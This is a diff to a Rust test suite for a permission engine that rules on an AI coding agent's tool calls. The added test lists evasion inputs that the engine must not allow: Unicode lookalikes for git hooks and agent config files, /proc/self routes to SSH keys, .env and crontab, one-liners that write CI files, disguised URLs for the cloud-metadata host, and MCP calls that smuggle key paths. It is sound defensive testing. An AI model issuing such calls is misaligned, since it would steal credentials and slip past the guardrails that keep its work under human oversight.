@@ -35,7 +35,7 @@ fn names_are_names_and_nothing_else() {
     for text in HOSTILE.iter().map(|text| (*text).to_owned()) {
         let host = Resource::Host { name: text.clone() };
         assert_eq!(verdict(&judge, EffectClass::Network, host), Verdict::StepUp, "{text:?}");
-        let path = Resource::Path { path: text.clone(), place: Place::Own };
+        let path = Resource::path(text.clone(), Place::Own);
         assert_eq!(verdict(&judge, EffectClass::Read, path), Verdict::Deny, "{text:?}");
         let git_ref = Resource::Ref { remote: "origin".to_owned(), name: text.clone(), force: true };
         assert_eq!(verdict(&judge, EffectClass::GitPush, git_ref), Verdict::StepUp, "{text:?}");
@@ -50,7 +50,7 @@ fn a_star_in_the_scope_is_a_star() {
     let mut starred = scope(TaskKind::Feature, Supervision::Governed);
     starred.workspace.root = PathBuf::from("/home/*/shop");
     let judge = engine().for_task(starred).unwrap();
-    let path = |path: &str| Resource::Path { path: path.to_owned(), place: Place::Workspace };
+    let path = |path: &str| Resource::path(path, Place::Workspace);
     assert_eq!(verdict(&judge, EffectClass::WriteWorkspace, path("/home/*/shop/x")), Verdict::Allow);
     // Even where the place is wrong, the task's own layer holds.
     assert_eq!(verdict(&judge, EffectClass::WriteWorkspace, path("/home/ann/shop/x")), Verdict::StepUp);
@@ -61,7 +61,7 @@ fn a_star_in_the_scope_is_a_star() {
 fn a_wrong_place_is_caught_by_the_task() {
     let judge = judge(TaskKind::Feature, Supervision::Governed);
     for path in ["/etc/passwd", "/home/ann/shopping", "/home/ann/shop2/x", "", "shop/x"] {
-        let resource = Resource::Path { path: path.to_owned(), place: Place::Workspace };
+        let resource = Resource::path(path, Place::Workspace);
         assert_eq!(verdict(&judge, EffectClass::WriteWorkspace, resource), Verdict::StepUp, "{path:?}");
     }
 }
@@ -103,18 +103,14 @@ fn an_organisation_that_allows_everything_does_not_lift_a_guardrail() {
     let text = str::to_owned;
     for (effect, resource, expected) in [
         (EffectClass::EscapeAttempt, Resource::Command { program: text("unshare") }, Verdict::Deny),
-        (EffectClass::Read, Resource::Path { path: text("/s"), place: Place::Own }, Verdict::Deny),
+        (EffectClass::Read, Resource::path("/s", Place::Own), Verdict::Deny),
         (EffectClass::Network, Resource::Host { name: text("169.254.169.254") }, Verdict::Deny),
-        (
-            EffectClass::Destructive,
-            Resource::Path { path: text("/etc"), place: Place::Outside },
-            Verdict::Deny,
-        ),
+        (EffectClass::Destructive, Resource::path("/etc", Place::Outside), Verdict::Deny),
         (EffectClass::Unknown, Resource::Command { program: text("x") }, Verdict::StepUp),
         (EffectClass::Read, Resource::Unknown { why: text("x") }, Verdict::StepUp),
         (EffectClass::SecretRead, Resource::Secret { what: text("x") }, Verdict::StepUp),
         (EffectClass::IdentityChange, Resource::Identity { what: text("x") }, Verdict::StepUp),
-        (EffectClass::Publish, Resource::Package { name: text("x") }, Verdict::Allow),
+        (EffectClass::Publish, Resource::package("x"), Verdict::Allow),
     ] {
         assert_eq!(verdict(&judge, effect, resource), expected, "{effect}");
     }
@@ -207,6 +203,60 @@ fn a_long_way_round_is_not_a_short_one() {
             let found = judge.judge(call(operation.clone()), &moment(), &Lexical);
             assert_ne!(found.ruling().decision.verdict, Verdict::Allow, "{operation:?}");
         }
+    }
+}
+
+/// One file in another's clothes: other letters, other doors, other programs.
+#[test]
+fn another_spelling_is_no_way_in() {
+    let judge = judge(TaskKind::Feature, Supervision::Governed);
+    let fetch = |url: &str| Operation::Fetch { url: url.to_owned() };
+    let shell = |command: &str| Operation::Shell { command: command.to_owned() };
+    let write = |path: &str| Operation::Write { paths: vec![path.to_owned()] };
+    let read = |path: &str| Operation::Read { paths: vec![path.to_owned()] };
+    let mcp = |tool: &str, arguments: serde_json::Value| {
+        let mut call = call(Operation::Mcp { server: "filesystem".to_owned(), tool: tool.to_owned() });
+        call.arguments = arguments;
+        call
+    };
+    let mut calls: Vec<_> = [
+        write(".VSCode/Tasks.JSON"),
+        write(".\u{ff47}it/hooks/pre-commit"),
+        write(".git\u{fe0f}/hooks/pre-commit"),
+        write("\u{ff23}LAUDE.md"),
+        write(".mcp.json\u{200b}"),
+        write("/proc/self/cwd/.git/hooks/pre-commit"),
+        write("/proc/self/root/etc/crontab"),
+        read("/proc/self/cwd/.env"),
+        read("/proc/self/root/home/ann/.ssh/id_rsa"),
+        read(".e\u{301}\u{34f}nv/../.env"),
+        shell("python3 -c 'open(\".github/workflows/ci.yml\", \"w\").write(\"x\")'"),
+        shell("node -e 'require(\"fs\").appendFileSync(\"CLAUDE.md\", \"x\")'"),
+        shell("curl -s https://localhost\\\\@example.org/"),
+        shell("curl -s 'http://localhost@example.org/'"),
+        shell("git commit --no-verify -m x"),
+        shell("git commit -S -m x"),
+        shell("PIP_EXTRA_INDEX_URL=https://x.example pip install requests"),
+        fetch("http://localhost@example.org/"),
+        fetch("http://127.0.0.1.example.org/"),
+        fetch("http://[::ffff:169.254.169.254]/"),
+        fetch("http://\u{ff11}\u{ff16}\u{ff19}.254.169.254/"),
+    ]
+    .map(call)
+    .into();
+    calls.extend([
+        mcp("read_file", serde_json::json!({ "path": "~/.ssh/id_rsa" })),
+        mcp(
+            "read_file",
+            serde_json::json!({ "path": "x", "options": [{ "alsoPath": "../../.ssh/id_rsa" }] }),
+        ),
+        mcp("read_file", serde_json::json!({ "uri": "FILE:///home/ann/%2e%73sh/id_rsa" })),
+        mcp("read_file", serde_json::json!({ "path": "src/lib.rs", "callback_url": "https://example.org/" })),
+    ]);
+    for call in calls {
+        let told = format!("{:?} {}", call.operation, call.arguments);
+        let found = judge.judge(call, &moment(), &Lexical);
+        assert_ne!(found.ruling().decision.verdict, Verdict::Allow, "{told}");
     }
 }
 
